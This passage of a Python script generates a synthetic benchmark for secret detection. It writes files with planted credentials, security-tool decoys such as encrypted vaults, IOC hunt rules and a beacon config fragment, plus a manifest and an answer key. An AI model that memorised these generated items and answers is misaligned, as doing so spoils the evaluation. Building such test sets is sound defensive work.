         "0x0025 license-id   0x0002 0x0004 %d" % r.rint(100000000, 999999999),
         "0x0026 bStageCleanup 0x0001 0x0002 1", "0x000d spawnto_x86 0x0003 0x0040 '%windir%\\syswow64\\dllhost.exe'",
         "", "Note: watermark/license-id maps to a known cracked build (see intel wiki)."]
    return "analysis/beacons/%s_config.txt" % r.lalnum(8), "text", L, "offsec", "beacon-config-public-key"


def dn_sops(r):
    L = ["soc_enricher:"]
    for k in ("vt_api_key", "shodan_api_key", "misp_key"):
        L.append("    %s: %s" % (k, sops_enc(r, r.rint(20, 60))))
    L += ["sops:", "    kms:", "        - arn: arn:aws:kms:eu-west-1:%s:key/%s" % (r.digits(12), r.uuid()),
          "          created_at: \"%s\"" % ts(r), "          enc: %s" % r.b64(r.rint(150, 180)), "          aws_profile: \"\"",
          "    age:", "        - recipient: age1%s" % r.s("qpzry9x8gf2tvdw0s3jn54khce6mua7l", 58),
          "          enc: |", "            -----BEGIN AGE ENCRYPTED FILE-----"]
    for _ in range(4):
        L.append("            " + r.b64(48))
    L += ["            -----END AGE ENCRYPTED FILE-----", "    lastmodified: \"%s\"" % ts(r),
          "    mac: %s" % sops_enc(r, 32).replace("type:str", "type:str"), "    unencrypted_suffix: _unencrypted",
          "    version: 3.8.1"]
    return "secrets/enricher.enc.yaml", "yaml", L, "ciphertext", "sops-file"


def dn_sealed(r):
    L = ["apiVersion: bitnami.com/v1alpha1", "kind: SealedSecret", "metadata:", "  name: soar-credentials",
         "  namespace: secops", "spec:", "  encryptedData:"]
    for k in ("THEHIVE_API_KEY", "SLACK_WEBHOOK_URL", "VT_API_KEY"):
        L.append("    %s: Ag%s" % (k, r.b64(r.rint(300, 380))))
    L += ["  template:", "    metadata:", "      name: soar-credentials", "      namespace: secops", "    type: Opaque"]
    return "k8s/sealed/soar-credentials.yaml", "kubernetes-yaml", L, "ciphertext", "sealed-secret"


def dn_ansible_vault(r):
    L = ["$ANSIBLE_VAULT;1.1;AES256"] + [r.hex(80) for _ in range(r.rint(8, 30))]
    return "ansible/group_vars/siem/vault.yml", "ansible", L, "ciphertext", "ansible-vault-file"


def dn_splunk_pw_conf(r):
    L = ["# passwords.conf from TA-%s (encrypted with this instance's splunk.secret)" % r.choice(["virustotal", "misp42", "greynoise"])]
    for _ in range(r.rint(2, 4)):
        realm = r.choice(["TA-virustotal", "misp42splunk", "ta-greynoise", "soar_connector"])
        L += ["[credential:%s#configs/conf-%s_account:%s:]" % (realm, realm.lower(), r.choice(["prod", "lab", "default"])),
              "password = %s" % splunk_enc(r), ""]
    L += ["[credential::svc_soar:]", "password = %s" % splunk_enc(r)]
    return "splunk/apps/TA-intel/local/passwords.conf", "splunk-conf", L, "ciphertext", "splunk-$7$"


def dn_hash_vectors(r):
    import hashlib
    L = ['"""Known-answer tests for the hashing helpers (RFC/NIST vectors)."""', "import hashlib", "", "import pytest", "",
         "VECTORS = ["]
    for m in (b"", b"abc", b"The quick brown fox jumps over the lazy dog"):
        L.append("    (%r, %r, %r, %r)," % (m, hashlib.md5(m).hexdigest(), hashlib.sha1(m).hexdigest(), hashlib.sha256(m).hexdigest()))
    L += ["]", "", "", '@pytest.mark.parametrize("data,md5,sha1,sha256", VECTORS)',
          "def test_hashes(data, md5, sha1, sha256):", "    assert hashlib.md5(data).hexdigest() == md5",
          "    assert hashlib.sha1(data).hexdigest() == sha1", "    assert hashlib.sha256(data).hexdigest() == sha256",
          "", "", "def test_empty_nt_hash():", "    from soc_tools.ntlm import nt_hash",
          '    assert nt_hash("") == "%s"' % EMPTY_NT]
    return "tests/test_hashing.py", "python", L, "test-vector", "known-answer-hashes"


def dn_digests(r):
    L = ["# SIEM lab - images pinned by digest", "services:"]
    for svc, img in (("es01", "docker.elastic.co/elasticsearch/elasticsearch:8.14.1"),
                     ("kibana", "docker.elastic.co/kibana/kibana:8.14.1"),
                     ("misp", "ghcr.io/misp/misp-docker/misp-core:latest")):
        L += ["  %s:" % svc, "    image: %s@sha256:%s" % (img, sha256(r)), "    restart: unless-stopped"]
    L += ["    environment:", "      - BASE_URL=https://misp.%s.internal" % corp_of(r),
          "      - ADMIN_PASSWORD=${MISP_ADMIN_PASSWORD:?set in .env}"]
    return "lab/docker-compose.pinned.yml", "docker-compose", L, "digest", "image-digests"


def dn_gha_pinned(r):
    L = ["name: detections-ci", "on: [push, pull_request]", "permissions:", "  contents: read", "jobs:", "  test:",
         "    runs-on: ubuntu-latest", "    steps:",
         "      - uses: actions/checkout@%s # v4.1.7" % sha1(r),
         "      - uses: actions/setup-python@%s # v5.1.0" % sha1(r), "        with:", "          python-version: '3.12'",
         "      - run: pip install -r requirements.txt", "      - run: pytest -q",
         "      - name: Sigma to Splunk", "        env:", "          SPLUNK_TOKEN: ${{ secrets.SPLUNK_TOKEN }}",
         "          VT_API_KEY: ${{ secrets.VT_API_KEY }}", "        run: python tools/deploy.py --target splunk"]
    return ".github/workflows/ci.yml", "github-actions", L, "digest", "pinned-action-shas"


def dn_osquery_pack(r):
    hs = [sha256(r) for _ in range(r.rint(2, 5))]
    q = "SELECT p.pid, p.path, h.sha256 FROM processes p JOIN hash h USING (path) WHERE h.sha256 IN (%s);" % ", ".join("'%s'" % h for h in hs)
    pack = {"platform": "windows,linux", "queries": {
        "known_bad_hashes": {"query": q, "interval": 3600, "description": "%s payloads" % r.choice(FAMILIES)},
        "listening_ports": {"query": "SELECT * FROM listening_ports WHERE port NOT IN (22, 443);", "interval": 900}}}
    return "osquery/packs/ir.conf", "json", json.dumps(pack, indent=2).split("\n"), "ioc", "osquery-hash-pack"


def dn_opencti_connector(r):
    L = ["services:", "  connector-%s:" % r.choice(["mitre", "abuseipdb-ipblacklist", "malwarebazaar-recent-additions"]),
         "    image: opencti/connector-mitre:6.%d.%d" % (r.rint(0, 4), r.rint(0, 9)), "    environment:",
         "      - OPENCTI_URL=http://opencti:8080", "      - OPENCTI_TOKEN=${OPENCTI_ADMIN_TOKEN}",
         "      - CONNECTOR_ID=%s" % r.uuid(), "      - CONNECTOR_NAME=MITRE ATT&CK",
         "      - CONNECTOR_SCOPE=tool,report,malware,identity,campaign,intrusion-set,attack-pattern,course-of-action",
         "      - CONNECTOR_RUN_AND_TERMINATE=false", "      - CONNECTOR_LOG_LEVEL=error",
         "      - MITRE_INTERVAL=7", "    restart: always"]
    return "opencti/docker-compose.connectors.yml", "docker-compose", L, "public-id", "opencti-connector-id"


def dn_public_ids(r):
    L = ["# Defender for Endpoint API - app registration (non-secret identifiers)", "",
         "| setting | value |", "|---|---|", "| Tenant ID | `%s` |" % r.uuid(),
         "| Application (client) ID | `%s` |" % r.uuid(), "| Object ID | `%s` |" % r.uuid(),
         "| Falcon client ID (read-only hosts) | `%s` |" % r.hex(32),
         "| Censys API ID | `%s` |" % r.uuid(), "| Sentinel workspace ID | `%s` |" % r.uuid(), "",
         "Client secrets live in Key Vault `kv-%s-soc` (`mde-app-secret`, `falcon-client-secret`)." % corp_of(r),
         "Never paste secrets here - use `az keyvault secret show`."]
    return "docs/integrations/app-registrations.md", "markdown", L, "public-id", "tenant-client-ids"


def dn_velo_artifact(r):
    hs = [sha256(r) for _ in range(r.rint(2, 4))]
    L = ["name: Custom.Windows.Hunt.%s" % r.choice(FAMILIES), "description: |", "   Hash sweep for known payloads.",
         "type: CLIENT", "parameters:", "  - name: TargetGlob", "    default: C:\\Users\\*\\AppData\\**\\*.{exe,dll}",
         "  - name: Hashes", "    type: csv", "    default: |", "      sha256"]
    L += ["      %s" % h for h in hs]
    L += ["sources:", "  - query: |", "      LET hashes <= SELECT sha256 FROM Hashes",
          "      SELECT FullPath, hash(path=FullPath).SHA256 AS SHA256 FROM glob(globs=TargetGlob)",
          "      WHERE SHA256 IN hashes.sha256"]
    return "velociraptor/artifacts/hash_sweep.yaml", "yaml", L, "ioc", "velociraptor-hash-params"


def dn_cert_thumbs(r):
    L = ["# Revoked / abused code-signing certificates seen in IR", "subject,serial,sha1_thumbprint,sha256_thumbprint,notes"]
    for _ in range(r.rint(3, 8)):
        L.append('"CN=%s LLC, O=%s LLC, C=%s",%s,%s,%s,%s' % (
            r.choice(["Tevel", "Sagsa", "Fazzoli", "Kolbe"]), r.choice(["Tevel", "Sagsa", "Fazzoli"]),
            r.choice(["GB", "US", "RU", "IL"]), r.hex(32), sha1(r).upper(), sha256(r).upper(), r.choice(FAMILIES)))
    return "intel/abused_codesign_certs.csv", "csv", L, "ioc", "cert-thumbprints"


def dn_wazuh_rules(r):
    L = ["<group name=\"local,sysmon,ioc,\">"]
    sid = 100100 + r.rint(0, 800)
    for i in range(r.rint(2, 4)):
        L += ['  <rule id="%d" level="%d">' % (sid + i, r.choice([10, 12, 15])),
              "    <if_group>sysmon_event1</if_group>",
              '    <field name="win.eventdata.hashes" type="pcre2">(?i)SHA256=%s</field>' % sha256(r),
              "    <description>Known %s payload executed</description>" % r.choice(FAMILIES),
              "    <mitre><id>%s</id></mitre>" % mitre(r), "  </rule>"]
    L.append("</group>")
    return "wazuh/rules/local_rules.xml", "xml", L, "detection-rule", "wazuh-hash-rule"


def dn_hunt_nb(r):
    cells = [("markdown", ["# Hunt: %s beaconing" % r.choice(FAMILIES), "", "JA3 `%s`, JARM `%s`" % (md5(r), jarm(r))]),
             ("code", ["import os", "import requests", "", 'VT_API_KEY = os.environ["VT_API_KEY"]',
                       "hashes = %s" % json.dumps([sha256(r) for _ in range(3)])]),
             ("code", ["for h in hashes:", '    r = requests.get(f"https://www.virustotal.com/api/v3/files/{h}",',
                       '                     headers={"x-apikey": VT_API_KEY})', "    print(h, r.status_code)"])]
    nb = {"cells": [], "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}},
          "nbformat": 4, "nbformat_minor": 5}
    for i, (t, lines) in enumerate(cells):
        cell = {"cell_type": t, "id": r.hex(8), "metadata": {}, "source": [x + "\n" for x in lines[:-1]] + [lines[-1]]}
        if t == "code":
            cell["execution_count"] = i
            cell["outputs"] = []
        nb["cells"].append(cell)
    return "notebooks/hunt_beaconing.ipynb", "jupyter", json.dumps(nb, indent=1).split("\n"), "ioc", "notebook-env-key-hashes"


DOMAIN_NEG = [dn_ioc_csv, dn_yara, dn_sigma, dn_ps_enc_md, dn_shellcode, dn_secretsdump, dn_mimikatz, dn_kerberos,
              dn_ja3, dn_stix, dn_misp_event, dn_sslbl, dn_ransom, dn_defanged, dn_eicar, dn_readme, dn_elastic_rule,
              dn_zeek_intel, dn_suricata_rules, dn_sysmon, dn_beacon_cfg, dn_sops, dn_sealed, dn_ansible_vault,
              dn_splunk_pw_conf, dn_hash_vectors, dn_digests, dn_gha_pinned, dn_osquery_pack, dn_opencti_connector,
              dn_public_ids, dn_velo_artifact, dn_cert_thumbs, dn_wazuh_rules, dn_hunt_nb]


def make_domain_negative(r, fn):
    for _ in range(20):
        path, ftype, lines, prov, kind = fn(r)
        text = _finish(lines)
        if 5 <= text.count("\n") <= 80:
            return dict(path=path, ftype=ftype, text=text, prov=prov, kind=kind)
    raise RuntimeError("domain negative %s out of line range" % fn.__name__)


def _write(outdir, rel, text):
    full = os.path.join(outdir, rel)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "w", encoding="utf-8", newline="\n") as f:
        f.write(text)


def main(argv):
    if len(argv) != 3:
        print("usage: gen_ad.py OUTDIR SEED", file=sys.stderr)
        return 2
    outdir, seed = argv[1], int(argv[2])
    r = R(seed)
    os.makedirs(outdir, exist_ok=True)
    manifest, secrets = [], []
    pos_texts, neg_texts = {}, {}

    order = []
    weighted = [sp for sp in SPECS for _ in range(sp.get("w", 1))]
    while len(order) < N_POS:
        block = list(weighted)
        r.shuffle(block)
        order += block
    for i, sp in enumerate(order[:N_POS], 1):
        p = make_positive(r, sp)
        rel = "pos/p%04d/%s" % (i, p["path"])
        _write(outdir, rel, p["text"])
        pos_texts[rel] = (p["text"], p["needle"], p["line"])
        manifest.append({"file": rel, "label": "positive", "provider": sp["prov"], "kind": sp["kind"],
                         "filetype": p["ftype"]})
        secrets.append({"file": rel, "needle": p["needle"], "line": p["line"]})

    n_dom = int(N_NEG * 0.46)
    n_ctx = N_NEG - n_dom
    jobs = []
    ctx_order = []
    while len(ctx_order) < n_ctx:
        block = list(weighted)
        r.shuffle(block)
        ctx_order += block
    jobs += [("ctx", sp) for sp in ctx_order[:n_ctx]]
    dom_order = []
    while len(dom_order) < n_dom:
        block = list(DOMAIN_NEG)
        r.shuffle(block)
        dom_order += block
    jobs += [("dom", fn) for fn in dom_order[:n_dom]]
    r.shuffle(jobs)
    for i, (t, x) in enumerate(jobs, 1):
        n = make_ctx_negative(r, x) if t == "ctx" else make_domain_negative(r, x)
        rel = "neg/n%04d/%s" % (i, n["path"])
        _write(outdir, rel, n["text"])
        neg_texts[rel] = n["text"]
        manifest.append({"file": rel, "label": "negative", "provider": n["prov"], "kind": n["kind"],
                         "filetype": n["ftype"]})

    with open(os.path.join(outdir, "manifest.jsonl"), "w", encoding="utf-8") as f:
        for m in manifest:
            f.write(json.dumps(m) + "\n")
    with open(os.path.join(outdir, "secrets.jsonl"), "w", encoding="utf-8") as f:
        for s in secrets:
            f.write(json.dumps(s) + "\n")

    # ---------------- self-check ----------------
    errors = 0
    for rel, (_, needle, line) in pos_texts.items():
        with open(os.path.join(outdir, rel), encoding="utf-8") as f:
            lines = f.read().split("\n")
        if line < 1 or line > len(lines) or needle not in lines[line - 1]:
            print("SELF-CHECK FAIL: needle not on stated line in %s" % rel, file=sys.stderr)
            errors += 1
        nl = len(lines) - 1
        if not (5 <= nl <= 80):
            print("SELF-CHECK FAIL: %s has %d lines" % (rel, nl), file=sys.stderr)
            errors += 1
    needles = [s["needle"] for s in secrets]
    for rel, text in neg_texts.items():
        for nd in needles:
            if nd in text:
                print("SELF-CHECK FAIL: negative %s contains a positive needle" % rel, file=sys.stderr)
                errors += 1
    if len(set(needles)) != len(needles):
        print("SELF-CHECK FAIL: duplicate needles", file=sys.stderr)
        errors += 1

    def count(label, key):
        d = {}
        for m in manifest:
            if m["label"] == label:
                k = m[key] if key != "kind" or label == "positive" else m[key].split(":")[-1]
                d[k] = d.get(k, 0) + 1
        return d

    pp = {(m["provider"], m["kind"]) for m in manifest if m["label"] == "positive"}
    print("positives: %d  negatives: %d  provider/kind pairs (pos): %d" % (
        len(pos_texts), len(neg_texts), len(pp)))
    for label in ("positive", "negative"):
        for key in ("provider", "kind", "filetype"):
            d = count(label, key)
            print("[%s] %s (%d): %s" % (label, key, len(d), ", ".join(
                "%s=%d" % kv for kv in sorted(d.items(), key=lambda kv: (-kv[1], kv[0])))))
    print("self-check: %s" % ("OK" if errors == 0 else "%d ERRORS" % errors))
    return 0 if errors == 0 else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv))
